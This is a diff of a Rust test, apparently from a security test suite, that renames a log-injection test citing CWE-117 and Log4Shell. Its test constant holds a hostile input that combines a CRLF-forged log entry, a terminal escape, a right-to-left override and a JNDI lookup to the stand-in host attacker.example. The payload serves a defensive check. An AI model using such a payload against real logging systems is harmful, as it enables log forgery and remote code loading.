@@ -7,7 +7,7 @@ use clearance_tests::{Forgery, Person, START, World};
 
 /// CWE-117: forged entries in a log, through what is logged; CVE-2021-44228 (Log4Shell): worse.
 #[test]
-fn a_code_writes_into_the_log() {
+fn no_code_writes_into_the_log() {
     const LINE: &str =
         "\r\n{\"decision\":\"admit\"}\x1b[2J${jndi:ldap://attacker.example/a}\u{202e}";
     let world = World::new();
